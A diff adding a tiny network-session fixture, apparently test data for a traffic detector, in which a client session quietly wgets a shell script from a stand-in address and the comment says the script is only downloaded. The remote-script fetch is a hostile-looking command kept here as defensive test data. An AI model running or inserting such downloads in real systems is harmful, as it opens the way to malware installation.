@@ -1,0 +1,7 @@
+# Only downloaded.
+proto tcp
+client 10.0.0.1:40000
+server 10.0.0.2:6000
+
+>>>
+wget -q http://198.51.100.7/a.sh\n
